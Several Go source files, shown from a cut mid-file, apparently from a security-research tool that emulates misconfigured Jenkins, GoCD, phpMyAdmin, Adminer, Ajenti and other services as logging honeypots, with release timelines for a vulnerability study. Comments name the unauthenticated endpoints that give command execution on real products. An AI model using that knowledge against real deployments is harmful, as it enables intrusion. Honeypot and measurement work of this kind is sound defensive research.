						inst.recordExec(r, "job-submit", strings.TrimSpace(t.Config.Command+" "+strings.Join(t.Config.Args, " ")))
					}
				}
			}
			writeJSON(w, http.StatusOK, map[string]string{"EvalID": "deadbeef-0000-1111-2222-333344445555"}, false)
			return
		}
		writeJSON(w, http.StatusOK, []map[string]interface{}{
			{"ID": "example", "Name": "example", "Status": "running", "Type": "service"},
		}, false)
	})
	serveAssets(mux, mav.Nomad, inst.Version())
	return mux
}
