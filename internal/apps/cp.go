package apps

import (
	"fmt"
	"net/http"

	"mavscan/internal/mav"
)

// Control panel emulators: Ajenti, phpMyAdmin, Adminer, VestaCP, OmniDB.
// Ajenti offers OS-level access (Syscmd); phpMyAdmin and Adminer expose SQL
// when empty database passwords are accepted; VestaCP and OmniDB always set
// a password at install time and are out of scope.

func init() {
	register(mav.Ajenti, buildAjenti)
	register(mav.PhpMyAdmin, buildPhpMyAdmin)
	register(mav.Adminer, buildAdminer)
	register(mav.VestaCP, buildVestaCP)
	register(mav.OmniDB, buildOmniDB)
}

func buildAjenti(inst *Instance) http.Handler {
	mux := http.NewServeMux()
	mux.HandleFunc("/", func(w http.ResponseWriter, r *http.Request) {
		if r.URL.Path != "/" {
			notFound(w)
			return
		}
		http.Redirect(w, r, "/view/", http.StatusFound)
	})
	mux.HandleFunc("/view/", func(w http.ResponseWriter, r *http.Request) {
		if !inst.Option("autologin") {
			htmlPage(w, http.StatusOK, "Ajenti",
				`<div class="login-box">Please log in</div>
<form method="post" action="/api/core/auth"><input name="username"><input type="password" name="password"></form>`+assetLinks(mav.Ajenti))
			return
		}
		// With --autologin the full admin UI is served to anyone; both
		// marker strings come from the real UI bootstrap script.
		htmlPage(w, http.StatusOK, "Ajenti",
			`<script>window.customization = { title: customization.plugins.core.title || 'Ajenti' };
var ajentiPlatformUnmapped = "debian";</script>
<div class="admin-shell">Dashboard</div>`+assetLinks(mav.Ajenti))
	})
	mux.HandleFunc("/api/terminal/run", func(w http.ResponseWriter, r *http.Request) {
		if !inst.Option("autologin") {
			writeJSON(w, http.StatusUnauthorized, map[string]string{"error": "authentication required"}, false)
			return
		}
		if r.Method != http.MethodPost {
			writeJSON(w, http.StatusMethodNotAllowed, map[string]string{"error": "method not allowed"}, false)
			return
		}
		if cmd := r.FormValue("command"); cmd != "" {
			inst.recordExec(r, "terminal", cmd)
		}
		writeJSON(w, http.StatusOK, map[string]string{"status": "ok"}, false)
	})
	serveAssets(mux, mav.Ajenti, inst.Version())
	return mux
}

func buildPhpMyAdmin(inst *Instance) http.Handler {
	mux := http.NewServeMux()
	page := func(w http.ResponseWriter, r *http.Request) {
		if !inst.Option("allowNoPassword") {
			htmlPage(w, http.StatusOK, "phpMyAdmin",
				fmt.Sprintf(`<div class="login-form">Welcome to phpMyAdmin</div>
<form method="post" action="index.php"><input name="pma_username" id="input_username"><input type="password" name="pma_password"></form>
<span id="li_pma_version">Version information: %s</span>%s`, inst.Version(), assetLinks(mav.PhpMyAdmin)))
			return
		}
		// With $cfg['Servers'][$i]['AllowNoPassword'] = true and a
		// passwordless root account, the main panel is served directly —
		// the two marker strings only appear on the logged-in view.
		htmlPage(w, http.StatusOK, "localhost / 127.0.0.1 | phpMyAdmin",
			fmt.Sprintf(`<div id="maincontainer">
<label>Server connection collation</label><select name="collation_connection"><option>utf8mb4_unicode_ci</option></select>
<a href="./doc/html/index.html">phpMyAdmin documentation</a>
<span id="li_pma_version">Version information: %s</span>
</div>%s`, inst.Version(), assetLinks(mav.PhpMyAdmin)))
	}
	mux.HandleFunc("/", func(w http.ResponseWriter, r *http.Request) {
		if r.URL.Path != "/" {
			notFound(w)
			return
		}
		page(w, r)
	})
	mux.HandleFunc("/phpmyadmin", page)
	mux.HandleFunc("/phpmyadmin/", page)
	mux.HandleFunc("/import.php", func(w http.ResponseWriter, r *http.Request) {
		if !inst.Option("allowNoPassword") {
			htmlPage(w, http.StatusUnauthorized, "phpMyAdmin", "<p>Access denied.</p>")
			return
		}
		if r.Method != http.MethodPost {
			htmlPage(w, http.StatusMethodNotAllowed, "phpMyAdmin", "<p>POST required.</p>")
			return
		}
		if q := r.FormValue("sql_query"); q != "" {
			inst.recordExec(r, "sql-query", q)
		}
		htmlPage(w, http.StatusOK, "phpMyAdmin", "<p>Your SQL query has been executed successfully.</p>")
	})
	serveAssets(mux, mav.PhpMyAdmin, inst.Version())
	return mux
}

func buildAdminer(inst *Instance) http.Handler {
	mux := http.NewServeMux()
	page := func(w http.ResponseWriter, r *http.Request) {
		if !inst.Vulnerable() || r.URL.Query().Get("username") == "" {
			htmlPage(w, http.StatusOK, "Login - Adminer",
				fmt.Sprintf(`<form action="" method="post"><table><tr><th>Username<td><input name="auth[username]">
<tr><th>Password<td><input type="password" name="auth[password]"></table>
<input type="submit" value="Login"></form>%s`, assetLinks(mav.Adminer)))
			return
		}
		// Pre-4.6.3 Adminer against a passwordless database account logs
		// straight in when a username is supplied in the URL.
		htmlPage(w, http.StatusOK, "root - Adminer",
			fmt.Sprintf(`<div id="menu"><span>MySQL 5.7 through PHP extension mysqli</span>
<span id="h1">Logged as: root</span></div>%s`, assetLinks(mav.Adminer)))
	}
	mux.HandleFunc("/adminer.php", func(w http.ResponseWriter, r *http.Request) {
		if r.Method == http.MethodPost && inst.Vulnerable() {
			if q := r.FormValue("query"); q != "" {
				inst.recordExec(r, "sql-query", q)
				htmlPage(w, http.StatusOK, "SQL command - Adminer", "<p>Query executed OK.</p>")
				return
			}
		}
		page(w, r)
	})
	mux.HandleFunc("/adminer/adminer.php", page)
	mux.HandleFunc("/", func(w http.ResponseWriter, r *http.Request) {
		if r.URL.Path != "/" {
			notFound(w)
			return
		}
		http.Redirect(w, r, "/adminer.php", http.StatusFound)
	})
	serveAssets(mux, mav.Adminer, inst.Version())
	return mux
}

func buildVestaCP(inst *Instance) http.Handler {
	mux := http.NewServeMux()
	mux.HandleFunc("/", func(w http.ResponseWriter, r *http.Request) {
		http.Redirect(w, r, "/login/", http.StatusFound)
	})
	mux.HandleFunc("/login/", func(w http.ResponseWriter, r *http.Request) {
		htmlPage(w, http.StatusOK, "Vesta",
			`<form method="post" action="/login/"><input name="user"><input type="password" name="password"></form><div class="vesta-logo">Vesta Control Panel</div>`)
	})
	return mux
}

func buildOmniDB(inst *Instance) http.Handler {
	mux := http.NewServeMux()
	mux.HandleFunc("/", func(w http.ResponseWriter, r *http.Request) {
		htmlPage(w, http.StatusOK, "OmniDB",
			`<div id="div_login">OmniDB</div><form id="login"><input name="user"><input type="password" name="pwd"></form>`)
	})
	return mux
}
