package apps

import (
	"fmt"
	"time"

	"mavscan/internal/mav"
)

// Release is one published version of an application.
type Release struct {
	Version string
	Date    time.Time
}

func d(y, m int) time.Time { return time.Date(y, time.Month(m), 15, 0, 0, 0, 0, time.UTC) }

// timelines holds a condensed release history per application, ascending by
// date, ending before the paper's scan date (June 03, 2021). The histories
// are condensed to the releases that matter for the study: the versions
// around default-security changes are exact (Jenkins 2.0, Jupyter Notebook
// 4.3, Joomla 3.7.4, Adminer 4.6.3); the rest provide a realistic spread of
// release dates for the Figure-1 age analysis.
var timelines = map[mav.App][]Release{
	mav.Gitlab: {
		{"11.0.0", d(2018, 6)}, {"12.0.0", d(2019, 6)}, {"13.0.0", d(2020, 5)}, {"13.12.0", d(2021, 5)},
	},
	mav.Drone: {
		{"0.8.0", d(2017, 9)}, {"1.0.0", d(2019, 2)}, {"1.10.0", d(2020, 10)}, {"2.0.0", d(2021, 4)},
	},
	mav.Jenkins: {
		{"1.580", d(2014, 10)}, {"1.625", d(2015, 10)}, {"1.651", d(2016, 2)},
		{"2.0", d(2016, 4)}, {"2.19", d(2016, 9)}, {"2.60", d(2017, 6)},
		{"2.107", d(2018, 2)}, {"2.150", d(2018, 12)}, {"2.190", d(2019, 9)},
		{"2.235", d(2020, 5)}, {"2.263", d(2020, 11)}, {"2.289", d(2021, 4)},
	},
	mav.Travis: {
		{"2.0.0", d(2016, 1)}, {"3.0.0", d(2018, 8)},
	},
	mav.GoCD: {
		{"16.1.0", d(2016, 1)}, {"17.3.0", d(2017, 3)}, {"18.6.0", d(2018, 6)},
		{"19.9.0", d(2019, 9)}, {"20.5.0", d(2020, 6)}, {"21.1.0", d(2021, 2)},
	},
	mav.Ghost: {
		{"1.0.0", d(2017, 7)}, {"2.0.0", d(2018, 8)}, {"3.0.0", d(2019, 10)}, {"4.3.0", d(2021, 4)},
	},
	mav.WordPress: {
		{"4.4", d(2015, 12)}, {"4.7", d(2016, 12)}, {"4.9", d(2017, 11)},
		{"5.0", d(2018, 12)}, {"5.3", d(2019, 11)}, {"5.5", d(2020, 8)},
		{"5.6", d(2020, 12)}, {"5.7", d(2021, 3)}, {"5.7.2", d(2021, 5)},
	},
	mav.Grav: {
		{"1.1.0", d(2016, 6)}, {"1.3.0", d(2017, 6)}, {"1.5.0", d(2018, 8)},
		{"1.6.0", d(2019, 4)}, {"1.6.28", d(2020, 9)}, {"1.7.14", d(2021, 5)},
	},
	mav.Joomla: {
		{"3.4.0", d(2015, 2)}, {"3.6.0", d(2016, 7)}, {"3.7.0", d(2017, 4)},
		{"3.7.4", d(2017, 7)}, {"3.8.0", d(2017, 9)}, {"3.9.0", d(2018, 10)},
		{"3.9.18", d(2020, 4)}, {"3.9.27", d(2021, 5)},
	},
	mav.Drupal: {
		{"8.0.0", d(2015, 11)}, {"8.3.0", d(2017, 4)}, {"8.6.0", d(2018, 9)},
		{"8.8.0", d(2019, 12)}, {"9.0.0", d(2020, 6)}, {"9.1.0", d(2020, 12)}, {"9.1.9", d(2021, 5)},
	},
	mav.Kubernetes: {
		{"1.5.0", d(2016, 12)}, {"1.9.0", d(2017, 12)}, {"1.13.0", d(2018, 12)},
		{"1.16.0", d(2019, 9)}, {"1.18.0", d(2020, 3)}, {"1.20.0", d(2020, 12)}, {"1.21.1", d(2021, 5)},
	},
	mav.Docker: {
		{"1.12.0", d(2016, 7)}, {"17.06.0", d(2017, 6)}, {"18.03.0", d(2018, 3)},
		{"18.09.0", d(2018, 11)}, {"19.03.0", d(2019, 7)}, {"20.10.0", d(2020, 12)}, {"20.10.6", d(2021, 4)},
	},
	mav.Consul: {
		{"0.7.0", d(2016, 9)}, {"0.9.0", d(2017, 7)}, {"1.2.0", d(2018, 6)},
		{"1.6.0", d(2019, 8)}, {"1.8.0", d(2020, 6)}, {"1.9.5", d(2021, 4)},
	},
	mav.Hadoop: {
		{"2.6.0", d(2014, 11)}, {"2.7.0", d(2015, 4)}, {"2.8.0", d(2017, 3)},
		{"2.9.0", d(2017, 11)}, {"3.0.0", d(2017, 12)}, {"3.1.0", d(2018, 4)},
		{"3.2.0", d(2019, 1)}, {"3.2.1", d(2019, 9)}, {"3.3.0", d(2020, 7)}, {"3.3.1", d(2021, 6)},
	},
	mav.Nomad: {
		{"0.5.0", d(2016, 11)}, {"0.7.0", d(2017, 9)}, {"0.9.0", d(2019, 4)},
		{"0.11.0", d(2020, 4)}, {"1.0.0", d(2020, 12)}, {"1.1.0", d(2021, 5)},
	},
	mav.JupyterLab: {
		{"0.35.0", d(2018, 10)}, {"1.0.0", d(2019, 6)}, {"2.0.0", d(2020, 2)},
		{"2.2.0", d(2020, 7)}, {"3.0.0", d(2021, 1)}, {"3.0.16", d(2021, 5)},
	},
	mav.JupyterNotebook: {
		{"4.0.0", d(2015, 7)}, {"4.1.0", d(2016, 1)}, {"4.2.0", d(2016, 4)},
		{"4.3.0", d(2016, 12)}, {"5.0.0", d(2017, 4)}, {"5.5.0", d(2018, 5)},
		{"5.7.0", d(2018, 10)}, {"6.0.0", d(2019, 7)}, {"6.1.0", d(2020, 8)}, {"6.3.0", d(2021, 3)},
	},
	mav.Zeppelin: {
		{"0.6.0", d(2016, 7)}, {"0.7.0", d(2017, 2)}, {"0.8.0", d(2018, 6)},
		{"0.8.2", d(2019, 9)}, {"0.9.0", d(2020, 12)},
	},
	mav.Polynote: {
		{"0.2.0", d(2019, 10)}, {"0.3.0", d(2020, 2)}, {"0.3.11", d(2020, 9)}, {"0.4.0", d(2021, 3)},
	},
	mav.SparkNotebook: {
		{"0.8.0", d(2017, 1)}, {"0.9.0", d(2019, 2)},
	},
	mav.Ajenti: {
		{"2.1.0", d(2016, 3)}, {"2.1.20", d(2017, 8)}, {"2.1.31", d(2019, 1)}, {"2.1.36", d(2020, 3)},
	},
	mav.PhpMyAdmin: {
		{"4.4.0", d(2015, 4)}, {"4.6.0", d(2016, 3)}, {"4.7.0", d(2017, 3)},
		{"4.8.0", d(2018, 4)}, {"4.9.0", d(2019, 6)}, {"5.0.0", d(2019, 12)}, {"5.1.0", d(2021, 2)},
	},
	mav.Adminer: {
		{"4.2.5", d(2015, 11)}, {"4.3.0", d(2017, 2)}, {"4.6.0", d(2018, 2)},
		{"4.6.3", d(2018, 6)}, {"4.7.0", d(2018, 11)}, {"4.7.7", d(2020, 5)}, {"4.8.1", d(2021, 5)},
	},
	mav.VestaCP: {
		{"0.9.8-16", d(2017, 1)}, {"0.9.8-24", d(2019, 4)}, {"0.9.8-26", d(2020, 8)},
	},
	mav.OmniDB: {
		{"2.8.0", d(2018, 8)}, {"2.17.0", d(2019, 10)}, {"3.0.0", d(2020, 10)},
	},
}

// defaultBecameSecureAt records, for applications whose defaults changed
// over time, the first release that ships secure defaults.
var defaultBecameSecureAt = map[mav.App]string{
	mav.Jenkins:         "2.0",
	mav.Joomla:          "3.7.4",
	mav.JupyterNotebook: "4.3.0",
	mav.Adminer:         "4.6.3",
}

// Timeline returns the condensed release history of app, ascending by date.
// The returned slice is shared; callers must not modify it.
func Timeline(app mav.App) []Release { return timelines[app] }

// ReleaseDate returns the publication date of (app, version).
func ReleaseDate(app mav.App, version string) (time.Time, error) {
	for _, rel := range timelines[app] {
		if rel.Version == version {
			return rel.Date, nil
		}
	}
	return time.Time{}, fmt.Errorf("apps: unknown release %s %s", app, version)
}

// LatestVersion returns the newest release of app.
func LatestVersion(app mav.App) string {
	tl := timelines[app]
	if len(tl) == 0 {
		panic(fmt.Sprintf("apps: no timeline for %q", app))
	}
	return tl[len(tl)-1].Version
}

// versionIndex returns the position of version in app's timeline, or -1.
func versionIndex(app mav.App, version string) int {
	for i, rel := range timelines[app] {
		if rel.Version == version {
			return i
		}
	}
	return -1
}

// InsecureDefault reports whether the given release of app shipped with a
// missing-authentication default. For always-insecure products it is true
// for every release; for products that changed defaults it is true only
// before the cutover release; for secure-by-default products it is false.
func InsecureDefault(app mav.App, version string) bool {
	info, err := mav.Lookup(app)
	if err != nil || !info.InScope() {
		return false
	}
	switch info.Default {
	case mav.InsecureByDefault:
		return true
	case mav.SecureByDefault:
		return false
	case mav.ChangedOverTime:
		cut := versionIndex(app, defaultBecameSecureAt[app])
		idx := versionIndex(app, version)
		if cut < 0 || idx < 0 {
			return false
		}
		return idx < cut
	default:
		return false
	}
}
