// Package apps emulates the 25 applications investigated by the paper.
//
// Each emulator is an http.Handler whose observable surface depends on the
// instance configuration (version, installed or not, authentication on or
// off, app-specific options). The emulators implement:
//
//   - landing pages carrying the Stage-II prefilter signatures,
//   - the exact endpoints and body markers the Tsunami MAV detection
//     plugins check (Appendix A, Table 10),
//   - version disclosure endpoints and static assets for fingerprinting,
//   - the command-execution surfaces real attackers abuse (terminals,
//     job/pod/app submission APIs, install hijacks followed by template
//     edits), which report executed commands to an ExecSink so the
//     honeypot's audit monitoring can record compromises.
package apps

import (
	"fmt"
	"net/http"
	"net/netip"
	"sync"
	"time"

	"mavscan/internal/mav"
	"mavscan/internal/simtime"
)

// ExecSink receives every system command an emulated application executes
// on behalf of a client. The honeypot's Auditbeat-like monitor implements
// it; outside honeypots a nil sink is fine.
type ExecSink interface {
	// RecordExec is called when a command reaches the system shell.
	// src is the network peer that triggered it, via names the application
	// surface used (e.g. "terminal", "pod-create", "theme-editor").
	RecordExec(t time.Time, src netip.Addr, app mav.App, via, command string)
}

// ExecFunc adapts a function to the ExecSink interface.
type ExecFunc func(t time.Time, src netip.Addr, app mav.App, via, command string)

// RecordExec implements ExecSink.
func (f ExecFunc) RecordExec(t time.Time, src netip.Addr, app mav.App, via, command string) {
	f(t, src, app, via, command)
}

// Clock is the subset of simtime.Clock the emulators need.
type Clock interface{ Now() time.Time }

// Config describes one deployed instance of an application.
type Config struct {
	App mav.App
	// Version is the deployed release, e.g. "2.277.1". It must be one of
	// the releases in the application's timeline (see versions.go).
	Version string
	// Installed reports whether the post-extract web installation was
	// completed. Only meaningful for the CMS category; other applications
	// ignore it (and the constructor forces it to true for them).
	Installed bool
	// AuthRequired reports whether the administrative surface demands
	// authentication. For Docker this models TLS client-certificate auth,
	// for Kubernetes anonymous-access configuration, for Nomad ACLs.
	AuthRequired bool
	// Options holds app-specific toggles: "enableScriptChecks" and
	// "enableRemoteScriptChecks" (Consul), "autologin" (Ajenti),
	// "allowNoPassword" (phpMyAdmin), "emptyDBPassword" (Adminer).
	Options map[string]bool

	// Exec receives executed commands; may be nil.
	Exec ExecSink
	// Clock stamps executed commands; nil means wall clock.
	Clock Clock
}

// Instance is a running emulated application with mutable runtime state
// (e.g. a CMS can be installed by whoever reaches it first — the trust-on-
// first-use MAV).
type Instance struct {
	mu  sync.Mutex
	cfg Config
	// adminPassword is set when a CMS installation completes.
	adminPassword string
	// installedBy records the source that completed the installation,
	// empty if the legitimate owner pre-installed it.
	installedBy string

	handler http.Handler
	info    mav.Info
}

// New validates cfg and builds the emulator instance.
func New(cfg Config) (*Instance, error) {
	info, err := mav.Lookup(cfg.App)
	if err != nil {
		return nil, err
	}
	if cfg.Version == "" {
		cfg.Version = LatestVersion(cfg.App)
	}
	if _, err := ReleaseDate(cfg.App, cfg.Version); err != nil {
		return nil, err
	}
	if cfg.Options == nil {
		cfg.Options = map[string]bool{}
	}
	if cfg.Clock == nil {
		cfg.Clock = simtime.Wall{}
	}
	if info.Kind != mav.KindInstall {
		cfg.Installed = true
	}
	inst := &Instance{cfg: cfg, info: info}
	build, ok := builders[cfg.App]
	if !ok {
		return nil, fmt.Errorf("apps: no emulator for %q", cfg.App)
	}
	inst.handler = build(inst)
	return inst, nil
}

// builders maps each application to its handler constructor. Each category
// file registers its emulators here via register.
var builders = map[mav.App]func(*Instance) http.Handler{}

func register(app mav.App, build func(*Instance) http.Handler) {
	if _, dup := builders[app]; dup {
		panic(fmt.Sprintf("apps: duplicate emulator for %q", app))
	}
	builders[app] = build
}

// App returns which application this instance emulates.
func (inst *Instance) App() mav.App { return inst.cfg.App }

// Info returns the catalog entry for the emulated application.
func (inst *Instance) Info() mav.Info { return inst.info }

// Version returns the deployed release.
func (inst *Instance) Version() string { return inst.cfg.Version }

// Handler returns the emulator's HTTP surface.
func (inst *Instance) Handler() http.Handler { return inst.handler }

// Option reports an app-specific boolean option.
func (inst *Instance) Option(name string) bool {
	inst.mu.Lock()
	defer inst.mu.Unlock()
	return inst.cfg.Options[name]
}

// AuthRequired reports whether the admin surface currently demands
// authentication.
func (inst *Instance) AuthRequired() bool {
	inst.mu.Lock()
	defer inst.mu.Unlock()
	return inst.cfg.AuthRequired
}

// Installed reports whether the web installation has been completed.
func (inst *Instance) Installed() bool {
	inst.mu.Lock()
	defer inst.mu.Unlock()
	return inst.cfg.Installed
}

// InstalledBy returns who completed the installation ("" if pre-installed
// by the owner), for telling hijacked installations apart in the analysis.
func (inst *Instance) InstalledBy() string {
	inst.mu.Lock()
	defer inst.mu.Unlock()
	return inst.installedBy
}

// CompleteInstall finishes the trust-on-first-use installation, setting the
// admin password. It reports whether the call actually completed the
// installation (false if it had already been completed — the vulnerability
// is exploitable exactly once).
func (inst *Instance) CompleteInstall(by, password string) bool {
	inst.mu.Lock()
	defer inst.mu.Unlock()
	if inst.cfg.Installed {
		return false
	}
	inst.cfg.Installed = true
	inst.adminPassword = password
	inst.installedBy = by
	return true
}

// SetAuthRequired flips the authentication requirement at runtime — the
// remediation action owners of misconfigured deployments take.
func (inst *Instance) SetAuthRequired(v bool) {
	inst.mu.Lock()
	defer inst.mu.Unlock()
	inst.cfg.AuthRequired = v
}

// SetOption sets an app-specific option at runtime (e.g. disabling
// Consul's script checks to remediate).
func (inst *Instance) SetOption(name string, v bool) {
	inst.mu.Lock()
	defer inst.mu.Unlock()
	inst.cfg.Options[name] = v
}

// checkAdminPassword reports whether password matches the one set at
// installation time.
func (inst *Instance) checkAdminPassword(password string) bool {
	inst.mu.Lock()
	defer inst.mu.Unlock()
	return inst.cfg.Installed && password != "" && password == inst.adminPassword
}

// Vulnerable reports the ground-truth MAV state of the instance, used to
// validate the detection pipeline and to seed populations. The rules are
// the per-application findings of Section 2.1.
func (inst *Instance) Vulnerable() bool {
	inst.mu.Lock()
	defer inst.mu.Unlock()
	switch inst.cfg.App {
	case mav.Jenkins, mav.GoCD, mav.Kubernetes, mav.Docker, mav.Hadoop,
		mav.Nomad, mav.JupyterLab, mav.JupyterNotebook, mav.Zeppelin:
		return !inst.cfg.AuthRequired
	case mav.Polynote:
		// Polynote has no authentication mechanism at all.
		return true
	case mav.WordPress, mav.Grav, mav.Drupal:
		return !inst.cfg.Installed
	case mav.Joomla:
		// Since 3.7.4 the installer demands proof of server ownership
		// (deleting a random file) before continuing, defeating hijacks.
		return !inst.cfg.Installed && InsecureDefault(mav.Joomla, inst.cfg.Version)
	case mav.Consul:
		return inst.cfg.Options["enableScriptChecks"] || inst.cfg.Options["enableRemoteScriptChecks"]
	case mav.Ajenti:
		return inst.cfg.Options["autologin"]
	case mav.PhpMyAdmin:
		return inst.cfg.Options["allowNoPassword"]
	case mav.Adminer:
		// Since 4.6.3 Adminer refuses empty passwords outright, so even a
		// passwordless database account is not reachable through it.
		return inst.cfg.Options["emptyDBPassword"] && InsecureDefault(mav.Adminer, inst.cfg.Version)
	default:
		return false
	}
}

// Snapshot captures the instance's mutable state so a honeypot can restore
// it after a compromise (the paper snapshots each server after setup).
type Snapshot struct {
	installed     bool
	adminPassword string
	installedBy   string
	authRequired  bool
	options       map[string]bool
}

// Snapshot returns a copy of the current mutable state.
func (inst *Instance) Snapshot() Snapshot {
	inst.mu.Lock()
	defer inst.mu.Unlock()
	opts := make(map[string]bool, len(inst.cfg.Options))
	for k, v := range inst.cfg.Options {
		opts[k] = v
	}
	return Snapshot{
		installed:     inst.cfg.Installed,
		adminPassword: inst.adminPassword,
		installedBy:   inst.installedBy,
		authRequired:  inst.cfg.AuthRequired,
		options:       opts,
	}
}

// Restore resets the instance to a previously captured state.
func (inst *Instance) Restore(s Snapshot) {
	inst.mu.Lock()
	defer inst.mu.Unlock()
	inst.cfg.Installed = s.installed
	inst.adminPassword = s.adminPassword
	inst.installedBy = s.installedBy
	inst.cfg.AuthRequired = s.authRequired
	opts := make(map[string]bool, len(s.options))
	for k, v := range s.options {
		opts[k] = v
	}
	inst.cfg.Options = opts
}

// recordExec reports a command execution to the configured sink.
func (inst *Instance) recordExec(r *http.Request, via, command string) {
	sink := inst.cfg.Exec
	if sink == nil {
		return
	}
	src := peerAddr(r)
	sink.RecordExec(inst.cfg.Clock.Now(), src, inst.cfg.App, via, command)
}

// peerAddr extracts the client IP from a request.
func peerAddr(r *http.Request) netip.Addr {
	hostPort := r.RemoteAddr
	if ap, err := netip.ParseAddrPort(hostPort); err == nil {
		return ap.Addr()
	}
	if a, err := netip.ParseAddr(hostPort); err == nil {
		return a
	}
	return netip.Addr{}
}
