package apps

import (
	"fmt"
	"net/http"

	"mavscan/internal/mav"
)

// Continuous integration emulators: Gitlab, Drone, Jenkins, Travis, GoCD.
// Only Jenkins (historically) and GoCD carry MAVs; the other three always
// demand authentication and exist so the pipeline proves it does not flag
// them.

func init() {
	register(mav.Gitlab, buildGitlab)
	register(mav.Drone, buildDrone)
	register(mav.Jenkins, buildJenkins)
	register(mav.Travis, buildTravis)
	register(mav.GoCD, buildGoCD)
}

func buildGitlab(inst *Instance) http.Handler {
	mux := http.NewServeMux()
	mux.HandleFunc("/", func(w http.ResponseWriter, r *http.Request) {
		if r.URL.Path != "/" {
			notFound(w)
			return
		}
		http.Redirect(w, r, "/users/sign_in", http.StatusFound)
	})
	mux.HandleFunc("/users/sign_in", func(w http.ResponseWriter, r *http.Request) {
		htmlPage(w, http.StatusOK, "Sign in · GitLab",
			`<div class="login-page">GitLab Community Edition</div><form action="/users/sign_in" method="post"><input name="user[login]"><input type="password" name="user[password]"></form>`+assetLinks(mav.Gitlab))
	})
	serveAssets(mux, mav.Gitlab, inst.Version())
	return mux
}

func buildDrone(inst *Instance) http.Handler {
	mux := http.NewServeMux()
	mux.HandleFunc("/", func(w http.ResponseWriter, r *http.Request) {
		htmlPage(w, http.StatusOK, "drone",
			`<div id="root" data-app="drone-ci"></div><a href="/login">Login with GitHub</a>`)
	})
	mux.HandleFunc("/api/user", func(w http.ResponseWriter, r *http.Request) {
		writeJSON(w, http.StatusUnauthorized, map[string]string{"message": "Unauthorized"}, false)
	})
	return mux
}

func buildJenkins(inst *Instance) http.Handler {
	mux := http.NewServeMux()
	stamp := func(w http.ResponseWriter) {
		w.Header().Set("X-Jenkins", inst.Version())
		w.Header().Set("X-Hudson", "1.395")
	}
	loginPage := func(w http.ResponseWriter, status int) {
		stamp(w)
		htmlPage(w, status, "Sign in [Jenkins]",
			fmt.Sprintf(`<div>Welcome to Jenkins %s!</div><form method="post" action="/j_spring_security_check" name="login"><input name="j_username"><input type="password" name="j_password"></form>%s`,
				inst.Version(), assetLinks(mav.Jenkins)))
	}
	mux.HandleFunc("/", func(w http.ResponseWriter, r *http.Request) {
		if r.URL.Path != "/" {
			notFound(w)
			return
		}
		stamp(w)
		if inst.AuthRequired() {
			loginPage(w, http.StatusForbidden)
			return
		}
		htmlPage(w, http.StatusOK, "Dashboard [Jenkins]",
			fmt.Sprintf(`<div id="jenkins-home">Welcome to Jenkins %s!</div><a href="/view/all/newJob">New Item</a>%s`,
				inst.Version(), assetLinks(mav.Jenkins)))
	})
	// The MAV detection endpoint: the new-job form is reachable without
	// authentication exactly when the instance is misconfigured.
	mux.HandleFunc("/view/all/newJob", func(w http.ResponseWriter, r *http.Request) {
		stamp(w)
		if inst.AuthRequired() {
			loginPage(w, http.StatusForbidden)
			return
		}
		htmlPage(w, http.StatusOK, "New Item [Jenkins]",
			`<h1>Enter an item name</h1><form id="createItem" action="/createItem" method="post"><input name="name"><input type="submit" value="OK"></form>`)
	})
	// The Groovy script console: the classic Jenkins code-execution path.
	mux.HandleFunc("/scriptText", func(w http.ResponseWriter, r *http.Request) {
		stamp(w)
		if inst.AuthRequired() {
			loginPage(w, http.StatusForbidden)
			return
		}
		if r.Method != http.MethodPost {
			htmlPage(w, http.StatusMethodNotAllowed, "Error", "POST required")
			return
		}
		script := r.FormValue("script")
		if script == "" {
			htmlPage(w, http.StatusBadRequest, "Error", "missing script")
			return
		}
		inst.recordExec(r, "script-console", script)
		htmlPage(w, http.StatusOK, "Result", "Result: done")
	})
	// The JSON API root: Jenkins exposes it even behind auth, with the
	// instance mode; scanners commonly touch it.
	mux.HandleFunc("/api/json", func(w http.ResponseWriter, r *http.Request) {
		stamp(w)
		if inst.AuthRequired() {
			writeJSON(w, http.StatusForbidden, map[string]string{"message": "Authentication required"}, false)
			return
		}
		writeJSON(w, http.StatusOK, map[string]interface{}{
			"mode": "NORMAL", "nodeName": "", "numExecutors": 2,
			"useSecurity": inst.AuthRequired(),
		}, false)
	})
	mux.HandleFunc("/login", func(w http.ResponseWriter, r *http.Request) {
		loginPage(w, http.StatusOK)
	})
	mux.HandleFunc("/createItem", func(w http.ResponseWriter, r *http.Request) {
		stamp(w)
		if inst.AuthRequired() || r.Method != http.MethodPost {
			loginPage(w, http.StatusForbidden)
			return
		}
		// A freestyle job with a shell build step executes on the next
		// build; attackers trigger it immediately.
		if cmd := r.FormValue("command"); cmd != "" {
			inst.recordExec(r, "build-step", cmd)
		}
		w.WriteHeader(http.StatusOK)
	})
	serveAssets(mux, mav.Jenkins, inst.Version())
	return mux
}

func buildTravis(inst *Instance) http.Handler {
	mux := http.NewServeMux()
	mux.HandleFunc("/", func(w http.ResponseWriter, r *http.Request) {
		htmlPage(w, http.StatusOK, "Travis CI",
			`<div class="landing">Travis CI - Test and Deploy with Confidence</div><a href="/auth">Sign in</a>`)
	})
	return mux
}

func buildGoCD(inst *Instance) http.Handler {
	mux := http.NewServeMux()
	loginPage := func(w http.ResponseWriter, r *http.Request) {
		htmlPage(w, http.StatusOK, "GoCD Login",
			`<form action="/go/auth/security_check" method="post"><input name="j_username"><input type="password" name="j_password"></form>`+assetLinks(mav.GoCD))
	}
	mux.HandleFunc("/", func(w http.ResponseWriter, r *http.Request) {
		if r.URL.Path != "/" {
			notFound(w)
			return
		}
		http.Redirect(w, r, "/go/home", http.StatusFound)
	})
	mux.HandleFunc("/go/auth/login", loginPage)
	// The MAV detection endpoint: without authentication the pipelines
	// dashboard (with its admin links) is served directly.
	mux.HandleFunc("/go/home", func(w http.ResponseWriter, r *http.Request) {
		if inst.AuthRequired() {
			http.Redirect(w, r, "/go/auth/login", http.StatusFound)
			return
		}
		htmlPage(w, http.StatusOK, "Create a pipeline - Go",
			fmt.Sprintf(`<div class="pipelines-page"><a href="/go/admin/pipelines/create">Add Pipeline</a></div><span class="server-version">%s</span>%s`,
				inst.Version(), assetLinks(mav.GoCD)))
	})
	mux.HandleFunc("/go/api/version", func(w http.ResponseWriter, r *http.Request) {
		writeJSON(w, http.StatusOK, map[string]string{"version": inst.Version(), "build_number": "12345"}, false)
	})
	mux.HandleFunc("/go/api/v1/health", func(w http.ResponseWriter, r *http.Request) {
		writeJSON(w, http.StatusOK, map[string]string{"health": "OK"}, false)
	})
	mux.HandleFunc("/go/api/admin/pipelines", func(w http.ResponseWriter, r *http.Request) {
		if inst.AuthRequired() {
